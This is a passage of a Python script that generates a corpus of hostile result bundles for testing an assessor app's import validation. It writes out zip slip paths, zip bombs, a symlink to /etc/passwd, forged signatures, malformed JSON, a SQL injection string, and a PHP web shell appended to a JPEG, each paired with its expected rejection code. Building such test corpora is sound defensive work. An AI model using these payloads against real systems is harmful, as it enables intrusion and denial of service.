"""Generate the malicious bundle corpus (RELIABILITY.md 9.6, goal G6).

    python scripts/make_hostile_bundles.py OUTDIR

Writes one file per attack into OUTDIR plus ``corpus.json``, which says what each file is
and what the office must answer: ``refused`` with a specific error code, ``duplicate``
(a replay of an imported bundle: a no-op) or ``accepted`` (hostile *values* in otherwise
valid records: stored verbatim as text, never interpreted). ``corpus.json`` also carries
the test keys: the enrolled device key that signs the bundles whose attack must get past
the signature, a revoked key, and the office key pair the payloads are sealed to. The
keys are derived from fixed seeds, so the corpus is the same on every run (only the
sealed payloads, which use fresh random nonces, differ).

A small valid assessment (JKP.LPK.01 with two photos and two drawn signatures) is made
with the app's own services in a scratch store inside OUTDIR, exported to the exchange
models, and every variant is built from it. Nothing is written outside OUTDIR.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from cryptography.hazmat.primitives import serialization  # noqa: E402
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey  # noqa: E402
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey  # noqa: E402
from PIL import Image  # noqa: E402

from assessor_app.bundles import crypto  # noqa: E402
from assessor_app.bundles.models import BundleData, RevisionData  # noqa: E402
from assessor_app.bundles.result import (  # noqa: E402
    PAYLOAD_PATH,
    RECORDS_PATH,
    build_result_bundle,
    bundle_file_name,
    media_path,
)
from assessor_app.bundles.strictjson import dumps_canonical  # noqa: E402
from assessor_app.bundles.writer import build_zip, manifest_bytes  # noqa: E402

CREATED_AT = "2026-11-20T08:00:00.000Z"
BASE_SEQ = 10
_RAW = serialization.Encoding.Raw


# ------------------------------------------------------------------ keys


@dataclass(frozen=True)
class TestKey:
    private: bytes
    public: bytes

    @property
    def device_id(self) -> str:
        return crypto.device_id_for(self.public)

    @property
    def public_b64(self) -> str:
        return base64.b64encode(self.public).decode()


def _ed_key(seed: str) -> TestKey:
    key = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(seed.encode()).digest())
    return TestKey(key.private_bytes(_RAW, serialization.PrivateFormat.Raw,
                                     serialization.NoEncryption()),
                   key.public_key().public_bytes(_RAW, serialization.PublicFormat.Raw))


def _x_key(seed: str) -> TestKey:
    key = X25519PrivateKey.from_private_bytes(hashlib.sha256(seed.encode()).digest())
    return TestKey(key.private_bytes(_RAW, serialization.PrivateFormat.Raw,
                                     serialization.NoEncryption()),
                   key.public_key().public_bytes(_RAW, serialization.PublicFormat.Raw))


DEVICE = _ed_key("hostile-corpus: enrolled device")
SECOND = _ed_key("hostile-corpus: a second enrolled laptop")
REVOKED = _ed_key("hostile-corpus: revoked device")
STRANGER = _ed_key("hostile-corpus: never enrolled")
OFFICE_ED = _ed_key("hostile-corpus: office signing key")
OFFICE_X = _x_key("hostile-corpus: office encryption key")
OTHER_OFFICE_X = _x_key("hostile-corpus: another office")


# ------------------------------------------------------------------ raw zip writer


@dataclass
class RawEntry:
    """One zip entry with every header field under our control (for lying archives)."""

    name: bytes
    data: bytes  # as stored (already compressed when method is 8)
    method: int = 0
    crc: int | None = None
    file_size: int | None = None
    compress_size: int | None = None
    flags: int = 0
    external_attr: int = 0o100644 << 16
    create_system: int = 3
    local_name: bytes | None = None


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def stored(name: str, content: bytes, **kw: Any) -> RawEntry:
    return RawEntry(name.encode("utf-8"), content, crc=zlib.crc32(content),
                    file_size=len(content), **kw)


def deflated(name: str, content: bytes, **kw: Any) -> RawEntry:
    return RawEntry(name.encode("utf-8"), deflate(content), method=8, crc=zlib.crc32(content),
                    file_size=len(content), **kw)


def raw_zip(entries: list[RawEntry], *, comment: bytes = b"",
            central_override: Callable[[int, dict[str, int]], None] | None = None) -> bytes:
    out = io.BytesIO()
    central = io.BytesIO()
    for n, e in enumerate(entries):
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        csize = len(e.data) if e.compress_size is None else e.compress_size
        usize = len(e.data) if e.file_size is None else e.file_size
        offset = out.tell()
        local_name = e.name if e.local_name is None else e.local_name
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, e.flags, e.method, 0, 0x21,
                              crc, min(csize, 0xFFFFFFFF), min(usize, 0xFFFFFFFF),
                              len(local_name), 0))
        out.write(local_name)
        out.write(e.data)
        fields = {"csize": csize, "usize": usize, "offset": offset}
        if central_override is not None:
            central_override(n, fields)
        central.write(struct.pack("<4sBBHHHHHIIIHHHHHII", b"PK\x01\x02", 20, e.create_system,
                                  20, e.flags, e.method, 0, 0x21, crc,
                                  min(fields["csize"], 0xFFFFFFFF),
                                  min(fields["usize"], 0xFFFFFFFF), len(e.name), 0, 0, 0, 0,
                                  e.external_attr, fields["offset"]))
        central.write(e.name)
    cd = central.getvalue()
    start = out.tell()
    out.write(cd)
    count = len(entries)
    if count > 0xFFFF:  # ZIP64 end record and locator
        z64 = out.tell()
        out.write(struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count,
                              len(cd), start))
        out.write(struct.pack("<4sIQI", b"PK\x06\x07", 0, z64, 1))
        count = 0xFFFF
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count,
                          len(cd), start, len(comment)))
    out.write(comment)
    return out.getvalue()


# ------------------------------------------------------------------ base data


def make_base(workdir: Path) -> tuple[BundleData, dict[str, bytes], Any]:
    """A valid finalised and signed assessment, as exchange models, from a scratch store."""
    from assessor_app.paths import AppPaths
    from assessor_app.services.demo import _fill, _finalise_and_sign
    from assessor_app.services.runtime import open_services

    services = open_services(AppPaths(workdir), take_lock=False,
                             template_dirs=[REPO / "forms" / "jkp-lpk-01.yaml"])
    try:
        _install_key(services, DEVICE)  # the records are made and signed by DEVICE
        reg = services.registry
        me = reg.add_assessor("Asesor Korpus", registration_no="MET.000.000001 2026",
                              is_self=True, row_id="c0" * 16)
        services.assessments.actor = me.name
        inst = reg.add_institution("LPK Korpus Uji", kind="LPK_SWASTA", city="Bandung",
                                   row_id="1a" * 16)
        svc = services.assessments
        row = svc.create("JKP.LPK.01", institution_id=inst.id, row_id="a0" * 16)
        _fill(svc, row.id, seed=11, photos=2)
        _finalise_and_sign(svc, row.id, me.name, me.registration_no, "Bandung",
                           others={"kepala_lpk": "Drs. Kepala Korpus"})
        final = svc.resolve(row.id)
        collected = services.sync.exporter.collect(services.sync.exporter.select([final.id]))
        collected.prove()
        data, blobs = collected.data, collected.blobs
        template = services.templates.get(final.template_id)
    finally:
        services.store.close(clean=False)
    return data, blobs, template


def _install_key(services: Any, key: TestKey) -> None:
    """Make ``key`` the scratch store's device key (before anything is created)."""
    from assessor_app.storage.db import write_session
    from assessor_app.storage.tables import DeviceIdentityRow

    x = _x_key("hostile-corpus: x25519 of " + key.device_id)
    with write_session(services.store.engine) as s:
        s.add(DeviceIdentityRow(device_id=key.device_id, ed25519_private=key.private,
                                ed25519_public=key.public_b64, x25519_private=x.private,
                                x25519_public=x.public_b64, created_at=CREATED_AT))


def sign_revision(a: RevisionData, template: Any, key: TestKey = DEVICE,
                  **changes: Any) -> RevisionData:
    """``a`` with ``changes``, made and signed by ``key``'s device."""
    from tests.sync.helpers import sign_revision as signed

    result: RevisionData = signed(a, template, key.private, **changes)
    return result


def fresh_copy(a: RevisionData, template: Any, tag: str, **changes: Any) -> RevisionData:
    """The same record under new ids (content hash and signatures made anew by DEVICE)."""
    def nid(old: str) -> str:
        return hashlib.sha256(f"{tag}:{old}".encode()).hexdigest()[:32]

    rows = {r.id: nid(r.id) for r in a.repeat_rows}
    rows[""] = ""
    base = a.model_dump()
    base.update(id=nid(a.id), assessment_id=nid(a.assessment_id),
                repeat_rows=[{**r.model_dump(), "id": rows[r.id]} for r in a.repeat_rows],
                answers=[{**x.model_dump(), "row_id": rows[x.row_id]} for x in a.answers],
                evidence=[{**e.model_dump(), "id": nid(e.id), "row_id": rows[e.row_id]}
                          for e in a.evidence],
                signatures=[{**g.model_dump(), "id": nid(g.id)} for g in a.signatures],
                consents=[])
    institution = changes.pop("snapshot_institution", None)
    base.update(changes)
    snap = json.loads(base["subject_json"])
    snap["name"] = base["subject_name"]
    if snap.get("institution") and base.get("institution_id"):
        snap["institution"]["id"] = base["institution_id"]
    if institution is not None:
        snap["institution"] = {k: v for k, v in institution.items()
                               if k not in ("created_at", "updated_at")}
    base["subject_json"] = json.dumps(snap, sort_keys=True, ensure_ascii=False,
                                      separators=(",", ":"))
    return sign_revision(RevisionData.model_validate(base), template)


# ------------------------------------------------------------------ building variants


@dataclass
class Corpus:
    outdir: Path
    data: BundleData
    blobs: dict[str, bytes]
    template: Any
    cases: list[dict[str, Any]] = field(default_factory=list)
    setup: list[str] = field(default_factory=list)
    _seq: int = 100

    def next_seq(self) -> int:
        self._seq += 1
        return self._seq

    def bundle_id(self, label: str) -> str:
        return hashlib.sha256(f"bundle:{label}".encode()).hexdigest()[:32]

    def build(self, label: str, *, key: TestKey = DEVICE, seq: int | None = None,
              data: BundleData | None = None, blobs: dict[str, bytes] | None = None,
              seal: bytes | None = None, seal_recipient: str | None = None,
              bundle_id: str | None = None) -> tuple[str, bytes, dict[str, Any]]:
        """A correctly signed bundle: (file name, bytes, manifest as dict)."""
        seq = self.next_seq() if seq is None else seq
        bid = bundle_id or self.bundle_id(label)
        built = build_result_bundle(
            bundle_id=bid, device_id=key.device_id, assessor_id="c0" * 16, seq=seq,
            prev_bundle_sha256=None, created_at=CREATED_AT, app_version="0.1.0",
            schema_version=4, data=data or self.data, blobs=blobs or self.blobs,
            ed25519_private=key.private,
            seal_to=(seal_recipient or "0" * 16, seal) if seal is not None else None)
        return built.file_name, built.data, built.manifest.model_dump(mode="json")

    def parts(self, label: str, **kw: Any) -> tuple[str, dict[str, bytes], dict[str, Any]]:
        """File name, the payload files and the manifest dict of a valid bundle."""
        name, raw, manifest = self.build(label, **kw)
        with zipfile.ZipFile(io.BytesIO(raw)) as zf:
            files = {n: zf.read(n) for n in zf.namelist()
                     if n not in ("manifest.json", "manifest.sig")}
        return name, files, manifest

    def resign(self, manifest: dict[str, Any], files: dict[str, bytes], *,
               key: TestKey = DEVICE, fix_hashes: bool = True,
               manifest_raw: bytes | None = None, compress: bool = True) -> bytes:
        """Re-list ``files`` in ``manifest`` (unless told not to) and sign it."""
        if fix_hashes:
            manifest["files"] = [
                {"path": p, "sha256": hashlib.sha256(b).hexdigest(), "size": len(b),
                 "media_type": _media_type(p)} for p, b in sorted(files.items())]
        raw = manifest_raw if manifest_raw is not None else \
            dumps_canonical(manifest, indent=1) + b"\n"
        sig = crypto.sign(key.private, raw)
        return build_zip([("manifest.json", raw), ("manifest.sig", sig)]
                         + sorted(files.items()), compress_json=compress)

    def records_variant(self, label: str, records: bytes, **kw: Any) -> tuple[str, bytes]:
        """A signed bundle whose data/records.json is ``records`` (hashes consistent)."""
        name, files, manifest = self.parts(label, **kw)
        files[RECORDS_PATH] = records
        return name, self.resign(manifest, files, compress=False)  # stored: no ratio refusal

    def add(self, what: str, name: str, raw: bytes, expect: str, *,
            outcome: str = "refused") -> None:
        path = self.outdir / name
        if path.exists():
            raise SystemExit(f"duplicate corpus file name {name}")
        path.write_bytes(raw)
        self.cases.append({"file": name, "what": what, "expect": expect, "outcome": outcome})

    def hostile_name(self, label: str) -> str:
        return bundle_file_name(DEVICE.device_id, self.next_seq(), self.bundle_id(label))


def _media_type(path: str) -> str:
    from assessor_app.bundles.reader import media_type_of

    return media_type_of(path)


def _records(data: BundleData) -> dict[str, Any]:
    out: dict[str, Any] = json.loads(dumps_canonical(data.model_dump(mode="json")))
    return out


def _png(width: int, height: int, chunks: list[tuple[bytes, bytes]] | None = None,
         idat: bytes | None = None, trailer: bytes = b"") -> bytes:
    def chunk(ctype: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + ctype + body + \
            struct.pack(">I", zlib.crc32(ctype + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = idat if idat is not None else zlib.compress(b"\x00" * (1 + 3 * width) * height)
    out = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
    for ctype, cbody in chunks or []:
        out += chunk(ctype, cbody)
    return out + chunk(b"IDAT", body) + chunk(b"IEND", b"") + trailer


def _jpeg(exif_bytes: int = 0) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (32, 24), (120, 40, 200)).save(buf, format="JPEG", quality=80)
    data = buf.getvalue()
    if exif_bytes:
        body = b"Exif\x00\x00" + b"\x00" * exif_bytes
        segment = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
        data = data[:2] + segment + data[2:]
    return data


def _with_media(c: Corpus, label: str, content: bytes, mime: str, *,
                name_sha: str | None = None, width: int | None = 32,
                height: int | None = 24) -> tuple[str, bytes]:
    """A signed bundle carrying ``content`` as evidence of the first answer item."""
    sha = name_sha or hashlib.sha256(content).hexdigest()
    records = _records(c.data)
    records["media"].append({"sha256": sha, "mime": mime, "width": width, "height": height,
                             "created_at": CREATED_AT})
    records["media"].sort(key=lambda m: m["sha256"])
    first = records["assessments"][0]
    ev = dict(first["evidence"][0])
    ev.update(id="e1" * 16, media_sha256=sha, position=len(first["evidence"]))
    first["evidence"].append(ev)
    name, files, manifest = c.parts(label)
    files[RECORDS_PATH] = dumps_canonical(records)
    files[media_path(sha, mime)] = content
    return name, c.resign(manifest, files)


# ------------------------------------------------------------------ the corpus


def build_corpus(outdir: Path) -> dict[str, Any]:
    outdir.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(dir=outdir, prefix=".work-") as work:
        data, blobs, template = make_base(Path(work))
    c = Corpus(outdir, data, blobs, template)
    a0 = data.assessments[0]

    # -- setup: a valid bundle the office imports first (seq 10)
    base_name, base_raw, base_manifest = c.build("base", seq=BASE_SEQ)
    (outdir / base_name).write_bytes(base_raw)
    c.setup.append(base_name)
    _, base_files, _ = c.parts("base", seq=BASE_SEQ)

    def hostile_zip(label: str, entries: list[RawEntry], what: str, expect: str,
                    **kw: Any) -> None:
        c.add(what, c.hostile_name(label), raw_zip(entries, **kw), expect)

    good = [stored("manifest.json", b"{}"), stored("manifest.sig", b"\x00" * 64)]

    # ---------------------------------------------------------- archive layer (9.6 1-23)
    for i, bad in enumerate(["../x", "../../etc/passwd", "/abs", "C:\\x", "\\\\server\\share\\x",
                             "a/../../x", "data/../../records.json", "media\\evil.png"]):
        hostile_zip(f"slip{i}", good + [stored(bad, b"x")], f"zip slip {bad!r}",
                    "bundle.zip_slip")
    hostile_zip("nul", [stored("manifest.json", b"{}"),
                        RawEntry(b"manifest.sig\x00.exe", b"\x00" * 64)],
                "entry name with a NUL", "bundle.bad_name")
    hostile_zip("space", good + [stored("data/records.json ", b"{}")],
                "entry name with a trailing space", "bundle.bad_name")
    hostile_zip("dot", good + [stored("data/records.json.", b"{}")],
                "entry name with a trailing dot", "bundle.bad_name")
    hostile_zip("dup", good + [stored("manifest.sig", b"\x01" * 64)], "duplicate entry names",
                "bundle.duplicate_name")
    hostile_zip("case", good + [stored("Data/records.json", b"{}"),
                                stored("data/records.json", b"{}")],
                "case-colliding names (Data/ vs data/)", "bundle.bad_name")
    hostile_zip("symlink", good + [stored("media/" + "ab" * 32 + ".png", b"/etc/passwd",
                                          external_attr=0o120777 << 16)],
                "symlink entry", "bundle.symlink")
    hostile_zip("dirshadow", good + [stored("data/records.json/", b"",
                                            external_attr=(0o40755 << 16) | 0x10)],
                "directory entry shadowing a file", "bundle.directory")
    hostile_zip("fifo", good + [stored("media/" + "cd" * 32 + ".png", b"",
                                       external_attr=0o10644 << 16)],
                "FIFO (special file) entry", "bundle.special_entry")
    zeros = b"\x00" * (10 * 1024 * 1024)
    hostile_zip("bomb", good + [deflated("data/records.json", zeros)],
                "zip bomb by ratio (10 MB of zeros)", "bundle.ratio")
    # 42.zip-style nesting: a zip inside, listed and signed, posing as a PNG
    inner = build_zip([("data/records.json", zeros)])
    name, raw = _with_media(c, "nested", inner, "image/png")
    c.add("nested zip posing as a PNG (42.zip style), correctly signed", name, raw,
          "bundle.bad_image")
    hostile_zip("nestedname", good + [stored("payload.zip", inner)],
                "nested zip under its own name", "bundle.bad_name")

    def overlap(n: int, f: dict[str, int]) -> None:
        if n == 0:
            f["csize"] += 40  # the first entry's data runs into the second's header

    hostile_zip("overlap", [deflated("manifest.json", b"{}" * 20),
                            stored("manifest.sig", b"\x00" * 64)],
                "overlapping entries (quoted overlap, CVE-2024-0450)", "bundle.overlap",
                central_override=overlap)

    def same_offset(n: int, f: dict[str, int]) -> None:
        if n == 1:
            f["offset"] = 0

    hostile_zip("overlap2", [stored("manifest.json", b"{}"), stored("manifest.sig", b"{}")],
                "two entries sharing one local header", "bundle.overlap",
                central_override=same_offset)
    payload = json.dumps({"x": "A" * 200_000}).encode()
    hostile_zip("liesmall", [RawEntry(b"manifest.json", deflate(payload), method=8,
                                      crc=zlib.crc32(payload), file_size=1000),
                             stored("manifest.sig", b"\x00" * 64)],
                "declared size smaller than the real data", "bundle.size_mismatch")
    small = b'{"a": 1}' * 100
    hostile_zip("liebig", [RawEntry(b"manifest.json", deflate(small), method=8,
                                    crc=zlib.crc32(small), file_size=len(small) + 5000),
                           stored("manifest.sig", b"\x00" * 64)],
                "declared size larger than the real data", "bundle.size_mismatch")
    hostile_zip("stored", [RawEntry(b"manifest.json", b"{}", crc=zlib.crc32(b"{}"),
                                    file_size=9), stored("manifest.sig", b"\x00" * 64)],
                "STORED entry whose sizes disagree", "bundle.size_mismatch")
    hostile_zip("crc", [RawEntry(b"manifest.json", b"{}", crc=1234, file_size=2),
                        stored("manifest.sig", b"\x00" * 64)],
                "wrong CRC-32", "bundle.crc_mismatch")
    hostile_zip("many", [stored(f"m{i}", b"") for i in range(100_000)],
                "100,000 entries", "bundle.too_many_entries")
    hostile_zip("sparse", good + [RawEntry(b"data/records.json", deflate(b"\x00" * 1000),
                                           method=8, crc=0, file_size=2 * 1024 ** 3)],
                "a 2 GB (declared) member", "bundle.entry_too_large")
    hostile_zip("encrypted", good + [stored("data/records.json", b"{}", flags=1)],
                "encrypted zip entry (flag bit 0)", "bundle.encrypted_entry")
    for method, label in ((12, "BZIP2"), (14, "LZMA"), (9, "Deflate64")):
        hostile_zip(f"method{method}", good + [RawEntry(b"data/records.json", b"xxxx",
                                                        method=method, file_size=4)],
                    f"unsupported compression {label}", "bundle.bad_method")
    hostile_zip("localname", good + [stored("data/records.json", b"{}",
                                            local_name=b"../../evil.json")],
                "local header name differs from the central directory", "bundle.bad_name")
    c.add("truncated zip (cut in half)", c.hostile_name("trunc"),
          base_raw[: len(base_raw) // 2], "bundle.not_zip")
    cut = base_raw.rfind(b"PK\x01\x02")
    c.add("damaged central directory", c.hostile_name("badcd"),
          base_raw[:cut] + b"\xde\xad" * 40 + base_raw[-22:], "bundle.not_zip")
    c.add("data prepended (polyglot)", c.hostile_name("prepend"),
          b"%PDF-1.7\n" + b"x" * 500 + base_raw, "bundle.polyglot")
    c.add("data appended after the end record", c.hostile_name("append"),
          base_raw + b"<script>alert(1)</script>", "bundle.polyglot")
    c.add("zip comment", c.hostile_name("comment"),
          base_raw[:-2] + struct.pack("<H", 7) + b"comment", "bundle.polyglot")
    c.add("not a zip at all", c.hostile_name("random"),
          hashlib.sha256(b"r").digest() * 64, "bundle.not_zip")
    c.add("empty file", c.hostile_name("empty"), b"", "bundle.not_zip")
    c.add("executable under a bundle name", c.hostile_name("exe")[:-4] + ".exe", base_raw,
          "bundle.bad_filename")

    # ---------------------------------------------------------- crypto & manifest (24-33)
    name, files, manifest = c.parts("nosig")
    raw = build_zip([("manifest.json", manifest_bytes_of(manifest))] + sorted(files.items()))
    c.add("missing manifest.sig", name, raw, "bundle.missing_sig")
    name, files, manifest = c.parts("nomanifest")
    c.add("missing manifest.json", name,
          build_zip([("manifest.sig", b"\x00" * 64)] + sorted(files.items())),
          "bundle.missing_manifest")
    name, files, manifest = c.parts("badsig")
    mraw = manifest_bytes_of(manifest)
    sig = bytearray(crypto.sign(DEVICE.private, mraw))
    sig[10] ^= 0x01
    c.add("signature with one bit flipped", name,
          build_zip([("manifest.json", mraw), ("manifest.sig", bytes(sig))]
                    + sorted(files.items())), "bundle.bad_sig")
    name, files, manifest = c.parts("shortsig")
    c.add("63-byte signature", name,
          build_zip([("manifest.json", mraw), ("manifest.sig", bytes(sig[:63]))]
                    + sorted(files.items())), "bundle.bad_sig")
    name, raw, _ = c.build("stranger", key=STRANGER)
    c.add("signed by a key that was never enrolled", name, raw, "bundle.unknown_device")
    name, raw, _ = c.build("revoked", key=REVOKED)
    c.add("signed by a revoked key", name, raw, "bundle.revoked_device")
    name, files, manifest = c.parts("forged")
    c.add("names the enrolled device, signed by another key", name,
          c.resign(manifest, files, key=STRANGER, fix_hashes=False), "bundle.bad_sig")
    name, files, manifest = c.parts("hash")
    rec = bytearray(files[RECORDS_PATH])
    rec[rec.find(b"LPK Korpus Uji")] = ord("X")
    files[RECORDS_PATH] = bytes(rec)
    c.add("valid signature, a file changed afterwards (same size)", name,
          c.resign(manifest, files, fix_hashes=False), "bundle.hash_mismatch")
    name, files, manifest = c.parts("extra")
    signed_manifest = manifest_bytes_of(manifest)
    files["media/" + "ee" * 32 + ".jpg"] = _jpeg()
    c.add("an extra file not in the manifest", name,
          c.resign(manifest, files, fix_hashes=False, manifest_raw=signed_manifest),
          "bundle.unlisted_file")
    name, files, manifest = c.parts("missing")
    drop = next(p for p in files if p.startswith("media/"))
    del files[drop]
    c.add("a listed file is missing", name, c.resign(manifest, files, fix_hashes=False),
          "bundle.missing_file")
    c.add("exact replay of an imported bundle (no-op)", "replay-" + base_name, base_raw,
          "duplicate", outcome="duplicate")
    c.add("a renamed copy of an imported bundle: the signed manifest says what it is (no-op)",
          "hasil_siti-nuraini_lpk-maju_20261204_evil.zip", base_raw, "duplicate",
          outcome="duplicate")
    name, files, manifest = c.parts("renamed-forged")
    c.add("renamed (no bundle name), names the enrolled device, signed by another key",
          "hasil_renamed-forged.zip",
          c.resign(manifest, files, key=STRANGER, fix_hashes=False), "bundle.bad_sig")
    name, raw, _ = c.build("renamed-stranger", key=STRANGER)
    c.add("renamed (no bundle name), signed by a key that was never enrolled",
          "hasil_renamed-stranger.zip", raw, "bundle.unknown_device")
    records = _records(c.data)
    records["institutions"][0]["phone"] = "0812-0000-0000"  # master data: not in a proof
    name, files, manifest = c.parts("base-altered", seq=BASE_SEQ,
                                     bundle_id=base_manifest["bundle_id"])
    files[RECORDS_PATH] = dumps_canonical(records)
    c.add("same bundle_id as an imported bundle, different content", "altered-" + name,
          c.resign(manifest, files), "bundle.replay_different")
    name, raw, _ = c.build("rollback", seq=3)
    c.add("seq lower than the last seen (rollback)", name, raw, "bundle.rollback")
    name, files, manifest = c.parts("renamed")
    other = c.hostile_name("renamed-other")
    c.add("file renamed to another seq/bundle id", other, c.resign(manifest, files),
          "bundle.name_mismatch")
    for label, key, value, expect in (
            ("v3", "format_version", 3, "bundle.unsupported_version"),
            ("kind", "kind", "receipt", "bundle.wrong_kind"),
            ("unknownfield", "extra_field", "x", "bundle.schema")):
        name, files, manifest = c.parts(label)
        manifest[key] = value
        c.add(f"manifest {key}={value!r}", name, c.resign(manifest, files), expect)
    name, files, manifest = c.parts("dupkey")
    mraw = manifest_bytes_of(manifest).replace(b'"kind": "result_bundle"',
                                               b'"kind": "result_bundle", "kind": "receipt"')
    c.add("manifest with a duplicate key", name,
          c.resign(manifest, files, fix_hashes=False, manifest_raw=mraw),
          "bundle.json_duplicate_key")
    name, files, manifest = c.parts("bigmanifest")
    manifest["app_version"] = "".join(hashlib.sha256(str(i).encode()).hexdigest()
                                      for i in range(17_000))  # 1.09 MB, incompressible-ish
    c.add("manifest larger than 1 MiB", name, c.resign(manifest, files),
          "bundle.entry_too_large")
    name, raw, _ = c.build("sealed-other", seal=OTHER_OFFICE_X.public,
                           seal_recipient="f" * 16)
    c.add("payload sealed to another office", name, raw, "bundle.not_for_us")
    name, raw, _ = c.build("sealed-wrongkey", seal=OTHER_OFFICE_X.public,
                           seal_recipient=crypto.device_id_for(OFFICE_ED.public))
    c.add("payload sealed with the wrong key for this office", name, raw,
          "bundle.decrypt_failed")
    name, files, manifest = c.parts("plainpayload")
    files[PAYLOAD_PATH] = b"AKS1" + b"\x00" * 100
    c.add("payload.enc in an unencrypted bundle", name, c.resign(manifest, files),
          "bundle.schema")

    # ---------------------------------------------------------- JSON layer (34-41)
    def js(label: str, text: bytes, what: str, expect: str) -> None:
        name, raw = c.records_variant(label, text)
        c.add(what, name, raw, expect)

    js("deep", b"[" * 100_000 + b"]" * 100_000, "JSON nested 100,000 deep",
       "bundle.json_depth")
    records = _records(c.data)
    records["assessments"][0]["subject_name"] = "A" * (1024 * 1024)
    js("longstr", dumps_canonical(records), "a 1 MB string field", "bundle.schema")
    js("bigint", b'{"assessments": ' + b"9" * 1_000_000 + b"}", "a 10^6-digit integer",
       "bundle.json_number")
    base_text = dumps_canonical(_records(c.data))
    position, lpk = b'"position":0', b"LPK Korpus Uji"
    for label, old, new, what, expect in (  # one change of the valid records text
            ("nan", position, b'"position":NaN', "NaN", "bundle.json_constant"),
            ("inf", position, b'"position":Infinity', "Infinity", "bundle.json_constant"),
            ("overflow", position, b'"position":1e999', "a float that overflows to infinity",
             "bundle.json_constant"),
            ("dupkeys", b'{"assessees"', b'{"assessees":[],"assessees"',
             "duplicate keys with different values", "bundle.json_duplicate_key"),
            ("badutf8", lpk, b"LPK \xff\xfe Uji", "invalid UTF-8", "bundle.json_encoding"),
            ("overlong", lpk, b"LPK \xc0\xaf Uji", "overlong UTF-8 encoding of '/'",
             "bundle.json_encoding"),
            ("surrogate", lpk, b"LPK \\ud800 Uji", "a lone surrogate escape",
             "bundle.json_encoding"),
            ("nul", lpk, b"LPK \\u0000 Uji", "a NUL character in a string",
             "bundle.json_control")):
        js(label, base_text.replace(old, new, 1), what, expect)
    js("bom", b"\xef\xbb\xbf" + base_text, "a byte-order mark", "bundle.json_encoding")
    js("syntax", base_text[:-5], "truncated JSON", "bundle.json_syntax")
    records = _records(c.data)
    records["assessments"][0]["surprise"] = True
    js("unknown", dumps_canonical(records), "an unknown field (extra=forbid)", "bundle.schema")
    records = _records(c.data)
    records["assessees"] = [{"id": "b1" * 16, "name": "Asesi", "nik": 3201012345670001,
                             "birth_place": None, "birth_date": None, "gender": None,
                             "phone": None, "email": None, "education": None,
                             "institution_id": None, "is_minor": False, "guardian_name": None,
                             "created_at": CREATED_AT, "updated_at": CREATED_AT}]
    js("nikint", dumps_canonical(records), "NIK as a number (leading zeros lost)",
       "bundle.schema")
    records = _records(c.data)
    records["assessments"][0]["revision"] = "1"
    js("revstr", dumps_canonical(records), "revision as a string", "bundle.schema")
    js("array", b"[]", "records.json is an array", "bundle.schema")

    # ---------------------------------------------------------- value layer (42-50)
    records = _records(c.data)
    records["assessments"][0]["assessment_id"] = "'); DROP TABLE assessment;--"
    js("sqlid", dumps_canonical(records), "SQL text in an id field", "bundle.schema")
    name, raw = _with_media(c, "pngbomb", _png(65535, 65535, idat=zlib.compress(b"\x00" * 100)),
                            "image/png", width=65535, height=65535)
    c.add("PNG of 65,535 x 65,535 pixels (pixel bomb)", name, raw, "bundle.bad_image")
    name, raw = _with_media(c, "exif", _jpeg(exif_bytes=60_000), "image/jpeg")
    c.add("JPEG with a 60 KB EXIF block", name, raw, "bundle.bad_image")
    for label, content in (("fits", b"SIMPLE  =                    T" + b" " * 2850),
                           ("gd", b"\xff\xfe\x00\x20\x00\x18" + b"\x00" * 3000),
                           ("tiff", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 3000)):
        name, raw = _with_media(c, label, content, "image/png")
        c.add(f"{label.upper()} data declared as PNG", name, raw, "bundle.bad_image")
    name, raw = _with_media(c, "zerojpeg", b"", "image/jpeg")
    c.add("a 0-byte JPEG", name, raw, "bundle.bad_image")
    name, raw = _with_media(c, "pngtext", _png(4, 4, chunks=[(b"tEXt", b"GPS\x00-6.2,106.8")]),
                            "image/png", width=4, height=4)
    c.add("PNG with a text chunk (metadata)", name, raw, "bundle.bad_image")
    name, raw = _with_media(c, "pngtrail", _png(4, 4, trailer=b"PK\x03\x04zipzip"),
                            "image/png", width=4, height=4)
    c.add("PNG with data after IEND (polyglot image)", name, raw, "bundle.bad_image")
    name, raw = _with_media(c, "jpgtrail", _jpeg() + b"<?php system($_GET[1]); ?>",
                            "image/jpeg")
    c.add("JPEG with data after EOI", name, raw, "bundle.bad_image")
    name, raw = _with_media(c, "sizelie", _png(4, 4), "image/png", width=40, height=40)
    c.add("image whose declared size differs from its header", name, raw, "bundle.bad_image")
    hostile_zip("pdf", good + [stored("media/" + "aa" * 32 + ".pdf", b"%PDF-1.7")],
                "a PDF attachment under media/", "bundle.bad_name")
    hostile_zip("pdf2", good + [stored("attachment.pdf", b"%PDF-1.7")],
                "a PDF attachment", "bundle.bad_name")
    name, raw = _with_media(c, "notpdf", b"MZ\x90\x00 this is an executable", "application/pdf",
                            width=None, height=None)
    c.add("a document under docs/ that is not a PDF", name, raw, "bundle.bad_document")
    name, raw = _with_media(c, "namesha", _jpeg(), "image/jpeg", name_sha="12" * 32)
    c.add("media whose name is not its SHA-256", name, raw, "bundle.hash_mismatch")

    # ---------------------------------------------------------- content checks
    records = _records(c.data)
    records["media"].append({"sha256": hashlib.sha256(_jpeg()).hexdigest(),
